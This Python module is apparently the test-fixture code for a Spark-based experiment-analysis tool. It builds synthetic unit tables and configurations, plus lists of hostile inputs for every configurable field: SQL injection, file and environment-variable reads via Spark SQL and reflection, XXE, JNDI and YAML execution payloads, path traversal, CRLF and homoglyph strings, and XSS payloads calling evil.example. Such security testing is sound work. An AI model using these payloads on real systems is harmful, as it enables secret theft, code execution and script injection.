"""Hostile texts for every place that takes one, and the tables and configuration that they are put into."""

from __future__ import annotations

import copy
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import yaml

N = 240
START = 1_767_571_200_000_000  # 2026-01-05 00:00 UTC in microseconds
DAY = 86_400_000_000
CANARY_TEXT, CANARY_VALUE = "canary-in-a-file-5b1f", "canary-in-a-variable-77c0"
CANARY_NAME = "CAUSAL_SPARK_TEST_CANARY"

Config = dict[str, Any]

# {file} is a file that holds a secret, {name} an environment variable that does.
SQL = [
    "x' OR '1'='1",
    "1; DROP TABLE units",
    "revenue) FROM units --",
    "revenue/**/",
    "*",
    "units.*",
    "count(*)",
    "`",
    "``",
    "`; --",
    "x`) UNION ALL SELECT * FROM text.`{file}` --",
    "(SELECT value FROM text.`{file}`)",
    "(SELECT value FROM text.`/etc/hostname` LIMIT 1)",
    "exists(SELECT 1 FROM csv.`{file}`)",
    "IDENTIFIER('text.`{file}`')",
    "reflect('java.lang.System', 'getenv', '{name}')",
    "java_method('java.lang.System', 'getenv', '{name}')",
    "try_reflect('java.lang.System', 'getProperty', 'user.home')",
    "xpath_string('<!DOCTYPE a [<!ENTITY b SYSTEM \"file://{file}\">]><a>&b;</a>', 'a')",
    "from_csv(value, 'a INT')",
    "raise_error('x')",
    "secret('scope', 'key')",
    "input_file_name()",
    "current_user()",
    "java.lang.Runtime.getRuntime().exec('id')",
    "__import__('os').environ['{name}']",
]
EXPANDED = [
    "${{env:{name}}}",
    "${{spark.sql.warehouse.dir}}",
    "${{secret:scope/key}}",
    "$({name})",
    "${name}",
    "{{{{ config.items() }}}}",
    "{{0.__class__.__mro__}}",
    "{{values}}",
    "%({name})s%n",
    "${{jndi:ldap://127.0.0.1:9/a}}",
    "!!python/name:os.system",
]
PATHS = [
    "../{file}",
    "..",
    "data/../../secret",
    "..\\..\\secret",
    "/",
    ".",
    "{file}*",
    "/data/{{a,b}}",
    "/data/[ab]",
    "/data/?",
    "file://{file}/../x",
    "text.`{file}`",
    "text.foo",
    "TEXT.foo",
    "csv.foo",
    "binaryFile.foo",
    "jdbc.foo",
    "delta.`{file}`",
    "jdbc:mysql://127.0.0.1:9/db",
    "jdbc:sqlite:{file}",
    "http://127.0.0.1:9/x",
    "https://127.0.0.1:9/x",
    "ftp://127.0.0.1:9/x",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "s3a://key:word@bucket/x",
    "a.b.c.d",
]
SHAPES = [
    "a\x00b",
    "a\nb",
    "a\r\nSet-Cookie: b",
    "a\x1b[31mb",
    "a\x7fb",
    "\x01",
    "x" * 129,
    "x" * 5000,
    "revenu\u0435",  # the last letter is Cyrillic
    "rev\u200benue",
    "\u202eeunever",
    "＇ OR １＝１",
]
CORPUS = [*SQL, *EXPANDED, *PATHS, *SHAPES]

XSS = [
    "<script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    "</style><script>alert(3)</script>",
    "</svg><script>alert(4)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><img src=x onerror=alert(5)>',
    "'><svg onload=alert(6)>",
    "<svg/onload=alert(7)>",
    "<img src='http://evil.example/p.png'>",
    "<iframe src=javascript:alert(8)></iframe>",
    "<a href='javascript:alert(9)'>x</a>",
    "<body onload=alert(10)>",
    "<math><mtext></mtext><script>alert(11)</script></math>",
    "<object data='http://evil.example/o'></object>",
    "<embed src='http://evil.example/e'>",
    "<link rel=stylesheet href=http://evil.example/s.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'>",
    "<form action='http://evil.example'><input name=a></form>",
    "<style>@import 'http://evil.example/i.css';</style>",
    "<details open ontoggle=alert(12)>",
    "<input autofocus onfocus=alert(13)>",
    "<video><source onerror=alert(14)></video>",
    "{{7*7}}",
    "{% for x in y %}",
    "${7*7}",
    "]]><script>alert(15)</script>",
    "--><script>alert(16)</script>",
    "&lt;script&gt;alert(17)&lt;/script&gt;",
    '" style="background:url(http://evil.example/b)" x="',
    "</text><script>alert(18)</script>",
    "<textarea><script>alert(19)</script>",
]


def units(names: Mapping[str, str] | None = None, arms: tuple[str, ...] = ("control", "treatment")) -> dict[str, Any]:
    """A unit table; ``names`` gives some of its columns another name."""
    rng = np.random.default_rng(5)
    made = {
        "user_id": [f"u{i:04d}" for i in range(N)],
        "variant": [arms[i % len(arms)] for i in range(N)],
        "revenue": rng.gamma(8.0, 2.0, N).tolist(),
        "before": rng.gamma(8.0, 2.0, N).tolist(),
        "converted": [int(v) for v in rng.random(N) < 0.3],
        "clicks": rng.integers(0, 9, N).tolist(),
        "views": rng.integers(9, 30, N).tolist(),
        "country": [("DE", "FR", "CN")[i // 2 % 3] for i in range(N)],
        "shop": [f"s{i % 80:02d}" for i in range(N)],
    }
    return {(names or {}).get(name, name): values for name, values in made.items()}


def write(columns: Mapping[str, Any], folder: Path) -> str:
    folder.mkdir(parents=True, exist_ok=True)
    pq.write_table(pa.table(dict(columns)), folder / "part-0.parquet")
    return str(folder)


def config_for(folder: Path) -> Config:
    return {
        "job": "experiment",
        "input": {"units": {"table": str(folder / "units")}},
        "method": {
            "unit": "user_id",
            "arm": "variant",
            "control": "control",
            "shares": {"control": 0.5, "treatment": 0.5},
            "metrics": [
                {"name": "revenue", "kind": "mean", "value": "revenue", "covariates": ["before"]},
                {"name": "ctr", "kind": "ratio", "numerator": "clicks", "denominator": "views"},
            ],
            "segments": ["country"],
            "min_segment": 10,
        },
        "output": {"path": str(folder / "out")},
        "tracking": {"enabled": False},
    }


def saved(config: Config, folder: Path) -> str:
    path = folder / "config.yml"
    path.write_text(yaml.safe_dump(config, allow_unicode=True), encoding="utf-8")
    return str(path)


def put(config: Config, place: str, value: Any) -> Config:
    """A copy of ``config`` with ``value`` at the dotted ``place``."""
    changed = copy.deepcopy(config)
    target: Any = changed
    *parents, last = place.split(".")
    for part in parents:
        target = target[int(part)] if isinstance(target, list) else target.setdefault(part, {})
    target[int(last) if isinstance(target, list) else last] = value
    return changed
